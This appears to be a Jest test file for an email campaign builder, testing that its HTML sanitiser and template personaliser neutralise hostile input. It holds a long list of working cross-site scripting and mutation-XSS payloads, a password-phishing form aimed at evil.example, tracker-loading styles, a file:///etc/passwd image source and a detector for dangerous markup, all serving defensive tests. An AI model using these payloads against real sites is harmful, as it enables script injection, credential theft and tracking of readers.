import { JSDOM } from 'jsdom';
import type { ColumnItem, EntryCard, MessageBlock } from '../../content-types';
import { DEFAULT_BRAND } from '../../content-types';
import { compile } from '../../server/src/messages/compile';
import { personalise } from '../../server/src/messages/personalise';
import { sanitiseHtml } from '../../server/src/messages/sanitise';
import {
  button,
  columnsOf,
  entry,
  heading,
  html,
  image,
  query,
  quote,
  video,
} from '../helpers/message-blocks';
import { campaign, recipient, sender } from '../helpers/mail';

type Input = ReturnType<typeof campaign>;
const partsOf = async (input: Input) =>
  personalise({ compiled: await compile(input), sender, recipient: recipient() }).parts();

/** A page as a browser reads it, whatever the markup pretends to be. */
const read = (source: string): Document => new JSDOM(source).window.document;

/** What could run, load or leave its place in a page. */
const dangers = (page: Document): string[] =>
  Array.from(page.querySelectorAll('*')).flatMap((element) => {
    const name = element.localName;
    const found = Array.from(element.attributes).flatMap((attribute) => {
      const value = attribute.value.replace(/[\s\0]/g, '').toLowerCase();
      if (attribute.name.startsWith('on')) return [`${name} ${attribute.name}`];
      if (/^(javascript|vbscript|data|optin|file):/.test(value)) return [`${name} ${value}`];
      if (attribute.name === 'style' && /url\(|expression|position|behavior|@import/.test(value))
        return [`${name} ${value}`];
      return [];
    });
    const isKnown = page.head.contains(element) || element === page.head;
    if (
      /^(script|iframe|object|embed|svg|math|form|input|button|base|link|frame|template)$/.test(
        name
      )
    )
      found.push(name);
    if (!isKnown && /^(style|meta|title)$/.test(name)) found.push(name);
    return found;
  });

const HOSTILE =
  '</style></title><script>alert(1)</script><svg onload=alert(2)>"\'><img src=x onerror=alert(3)> {{ email }} {% if c0 %} {{ "{" }} \uFDD00\uFDD1 &#xFDD0;0&#xFDD1;';

const words = (text: string) => [{ type: 'text' as const, text }];
const card: EntryCard = {
  title: HOSTILE,
  text: HOSTILE,
  imageUrl: '/uploads/a.png',
  imageAlt: HOSTILE,
  link: 'https://example.org/?q={{email}}',
};

/** Every text of every block is hostile. */
const blocks = (): MessageBlock[] => {
  const items: ColumnItem[] = [
    { ...heading('x'), id: 'h', content: words(HOSTILE) } as ColumnItem,
    {
      id: 't',
      type: 'text',
      content: [
        { type: 'paragraph', content: words(HOSTILE) },
        { type: 'bulletList', items: [words(HOSTILE)] },
        { type: 'paragraph', content: [{ type: 'mergeTag', tag: 'lastName', fallback: HOSTILE }] },
      ],
    },
    { ...image, alt: HOSTILE },
    { ...button, text: HOSTILE, url: 'https://example.org/?q={{email}}{%x%}' },
    { ...quote, content: words(HOSTILE), author: HOSTILE } as ColumnItem,
    { ...video, alt: HOSTILE } as ColumnItem,
    html(`<p title="${HOSTILE.replace(/"/g, '')}">${HOSTILE}</p>`),
    entry({ buttonText: HOSTILE }),
  ];
  return [
    ...items,
    query({ buttonText: HOSTILE }),
    columnsOf(items.map((item) => ({ ...item, id: `${item.id}-in` }))),
    { id: 'f', type: 'footer', content: words(HOSTILE) },
  ];
};

const hostile = (): Input =>
  campaign(blocks(), {
    subject: words(HOSTILE),
    preheader: HOSTILE,
    cards: new Map(['entry', 'entry-in', 'query'].map((id) => [id, [card, card]])),
    linkTags: { source: HOSTILE, medium: '{{email}}', campaign: '"><script>' },
    brand: {
      ...DEFAULT_BRAND,
      logo: { fileId: 1, url: '/uploads/l.png', alt: HOSTILE, width: 100, link: '' },
      light: { ...DEFAULT_BRAND.light, card: 'red;}</style><script>' },
      footerText: { en: HOSTILE },
    },
  });

describe('what somebody types into a message', () => {
  test('would be found if it ran', () => {
    for (const bad of [
      '<img src=x onerror=a>',
      '<p style="position:fixed">',
      '<style>p{}</style>',
      '<svg/>',
    ])
      expect(dangers(read(`<body><p>x</p>${bad}`))).toHaveLength(1);
    expect(dangers(read('<p><a href="javascript:1">x</a></p>'))).toEqual(['a javascript:1']);
  });

  test('is never markup, in no field of no block', async () => {
    const { html: page } = await partsOf(hostile());
    expect(dangers(read(page))).toEqual([]);
    expect(page).not.toContain('</style><script>');
  });

  test('is never a template, and fills no slot', async () => {
    const input = hostile();
    const compiled = await compile(input);
    const mail = personalise({ compiled, sender, recipient: recipient() }).parts();
    for (const part of [mail.subject, mail.html, mail.text]) {
      expect(part).not.toContain('zoe@example.net');
      expect(part).toContain('{{ email }} {% if c0 %}');
      expect(part).not.toMatch(/[\uFDD0-\uFDEF]/);
    }
    // One exit, one reason: none came in through a mark in somebody's text.
    expect(mail.html.match(/because you subscribed/g)).toHaveLength(1);
    expect(mail.html.match(/unsubscribe\/AbC/g)).toHaveLength(1);
    expect(compiled.conditions).toBeNull();
  });

  test.each([
    'javascript:alert(1)',
    ' JaVaScRiPt:alert(1)',
    'data:text/html,x',
    'vbscript:x',
    '/about',
  ])('leads nowhere by the link %s: the block is named, in columns too', async (url) => {
    const bad: ColumnItem[] = [
      { ...button, url },
      { ...image, link: url },
      { ...video, url } as ColumnItem,
      { id: 's', type: 'social', align: 'left', links: [{ network: 'x', url }] },
      { ...quote, content: [{ type: 'text', text: 'x', link: url }] } as ColumnItem,
    ];
    for (const block of bad) {
      await expect(compile(campaign([heading('x'), block]))).rejects.toMatchObject({
        details: { errors: [{ path: ['document', 'blocks', '1'] }] },
      });
      await expect(compile(campaign([columnsOf([heading('x')], [block])]))).rejects.toMatchObject({
        message: expect.stringContaining(`(${block.type}, ${block.id})`),
        details: {
          errors: [{ path: ['document', 'blocks', '0', 'columns', '1', 'blocks', '0'] }],
        },
      });
    }
  });

  test.each(['data:image/png;base64,AAAA', 'javascript:1', 'cid:x', 'file:///etc/passwd'])(
    'shows no picture from %s',
    async (url) => {
      for (const block of [
        { ...image, url },
        { ...image, dark: { fileId: null, url } },
        { ...video, imageUrl: url } as ColumnItem,
      ])
        await expect(compile(campaign([block]))).rejects.toMatchObject({ name: 'ValidationError' });
      const cards = new Map([['entry', [{ ...card, title: 'Still', imageUrl: url, link: url }]]]);
      const { html: page } = await partsOf(campaign([entry()], { cards }));
      expect(page).toContain('Still');
      expect(page).not.toContain('<img');
      expect(dangers(read(page))).toEqual([]);
    }
  );

  test('keeps the colours of a brand to colours', async () => {
    const { html: page } = await partsOf(hostile());
    expect(page).not.toContain('red;}');
  });
});

const VECTORS = [
  '<svg onload=alert(1)><p>x</p></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if mso]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
  '<a href="optin:questionnaire/1">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="//evil.example/">x</a>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="http://tracker.example/x.png">',
  '<img src="//tracker.example/x.png">',
  '<img src=x onerror=alert(1)//',
  '<img srcset="https://tracker.example/a.png 1x">',
  '<p style="background:url(https://tracker.example/x)">x</p>',
  '<p style="background:u\\72l(javascript:1)">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="position:fixed;top:0;left:0;width:100%">x</p>',
  '<p style="color:red;position:absolute;behavior:url(#x)">x</p>',
  '<p style="color:red}body{display:none">x</p>',
  '<style>@import url(https://tracker.example/x)</style><p>x</p>',
  '<link rel=stylesheet href=https://tracker.example/x>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src=x>',
  '<form action="https://evil.example"><input name=password><button>Go</button></form>',
  '<div onclick="alert(1)" onmouseover=alert(1)>x</div>',
  '<div class="optin-footer" id="x">x</div>',
  '</div></td></tr></table></body><script>alert(1)</script>',
  '<table><td><table><tr><script>alert(1)</script>',
  '<b><i><table></b><td></i><img src=x onerror=alert(1)>',
  '<p title="&quot;><script>alert(1)</script>">x</p>',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  `${'<div>'.repeat(2000)}deep`,
];

describe('markup from elsewhere', () => {
  test.each(VECTORS.map((source) => [source.slice(0, 100), source]))(
    'is harmless after cleaning: %s',
    async (_name, source) => {
      const cleaned = sanitiseHtml(source);
      const host = read('<div></div>').body;
      host.innerHTML = cleaned;
      const once = host.innerHTML;
      host.innerHTML = once;
      // What a parser makes of it does not change by being written down and read again.
      expect(host.innerHTML).toBe(once);
      for (const page of [read(cleaned), read(once)]) expect(dangers(page)).toEqual([]);
      for (const element of Array.from(host.querySelectorAll('[src], [href]')))
        expect(element.getAttribute('src') ?? element.getAttribute('href')).toMatch(/^https:\/\//);
      const { html: page } = await partsOf(campaign([html(source), heading('After')]));
      expect(dangers(read(page))).toEqual([]);
      // It stays where it is: what comes after it stands on the same card.
      const after = Array.from(read(page).querySelectorAll('h1')).find(
        ({ textContent }) => textContent === 'After'
      );
      expect(after?.closest('.optin-card')).toBeTruthy();
    }
  );

  test('keeps what it may say: tables, styles, links and pictures', () => {
    const kept =
      '<table width="100%" style="border-collapse:collapse" role="presentation"><tr>' +
      '<td style="padding:4px 8px;border:1px solid #ddd;font-family:Georgia, serif" colspan="2" class="optin-cell">' +
      '<a href="https://example.org/" target="_blank">x</a> <a href="mailto:a@example.org" target="_blank">y</a> ' +
      '<img alt="z" width="20" src="https://example.org/z.png" /></td></tr></table>';
    expect(sanitiseHtml(kept)).toBe(kept);
    expect(sanitiseHtml('<center><font color="#333">ok</font></center><h2>Two</h2>')).toBe(
      '<center><font color="#333">ok</font></center><h2>Two</h2>'
    );
  });

  test('finds pictures of the media library where somebody says where that is', async () => {
    const { html: page } = await partsOf(campaign([html('<img src="/uploads/a.png" alt="a">')]));
    expect(page).toContain('src="https://cms.example.org/uploads/a.png"');
    expect(sanitiseHtml('<img src="/uploads/a.png">')).toBe('');
  });

  test('cleaning twice changes nothing', () => {
    for (const source of VECTORS) {
      const once = sanitiseHtml(source);
      expect(sanitiseHtml(once)).toBe(once);
    }
  });
});
